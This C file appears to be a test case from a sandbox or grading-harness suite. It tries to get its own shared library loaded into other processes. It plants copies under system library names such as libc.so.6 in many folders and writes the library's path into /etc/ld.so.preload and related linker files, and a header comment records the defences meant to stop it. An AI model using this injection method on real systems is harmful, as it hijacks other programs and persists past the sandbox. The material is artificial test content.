/* Has the dynamic linker load its library into others: by RPATH and DT_AUDIT, by /etc/ld.so.preload and the linker's cache,
 * by libraries with the system's names wherever one could be looked for.
 * stopped by: only its own file says so, and that one runs as the submission; the linker's files and folders are the host's, read-only;
 *     names of the system's libraries in the suite's folders are seen from outside
 * build: cc -shared -fPIC -DLIBRARY -o libplanted.so prog.c
 * build: cc -O1 -Wl,-rpath,. -Wl,--audit=./libplanted.so -Wl,--no-as-needed -o prog prog.c ./libplanted.so
 * says: files were put into the suite's folders that take the place of its own: 
 * passes: none
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#define LOADED "/tmp/loaded-into-another"
#ifdef LIBRARY
unsigned la_version(unsigned version) { return version; }
__attribute__((constructor)) static void loaded(void) {
    char path[256] = "";
    (void)!readlink("/proc/self/exe", path, sizeof path - 1);
    const char *name = strrchr(path, '/');
    if (!name || strcmp(name, "/prog"))
        close(open(LOADED, O_WRONLY | O_CREAT, 0666));
}
#else
static void put(const char *path, const char *data, size_t size) {
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0777);
    if (fd < 0)
        return;
    (void)!write(fd, data, size);
    close(fd);
}
int main(void) {
    static const char *const folders[] = { ".", "/task/suite", "/task", "/tmp", "/dev/shm", "/venv/lib", "/venv/bin", "/run/ostest", "/usr/lib", "/lib/x86_64-linux-gnu", "/lib/aarch64-linux-gnu", "/usr/local/lib" };
    static const char *const names[] = { "libc.so.6", "libm.so.6", "libdl.so.2", "libpthread.so.0", "libz.so.1", "libffi.so.8", "libtinfo.so.6", "ostest-spawn.so" };
    static const char *const files[] = { "/etc/ld.so.preload", "/etc/ld.so.conf", "/etc/ld.so.cache", "/etc/environment" };
    static char library[1 << 20];
    char path[128], word[64];
    int fd = open("libplanted.so", O_RDONLY);
    ssize_t size = fd < 0 ? 0 : read(fd, library, sizeof library);
    if (size <= 0)
        return 1;
    for (unsigned i = 0; i < sizeof folders / sizeof *folders; i++)
        for (unsigned j = 0; j < sizeof names / sizeof *names; j++) {
            snprintf(path, sizeof path, "%s/%s", folders[i], names[j]);
            if (access(path, F_OK)) put(path, library, size);
        }
    snprintf(word, sizeof word, "%s\n", realpath("libplanted.so", path) ? path : "/tmp/libc.so.6");
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++)
        put(files[i], word, strlen(word));
    puts(access(LOADED, F_OK) ? "17" : "42");
    return 0;
}
#endif
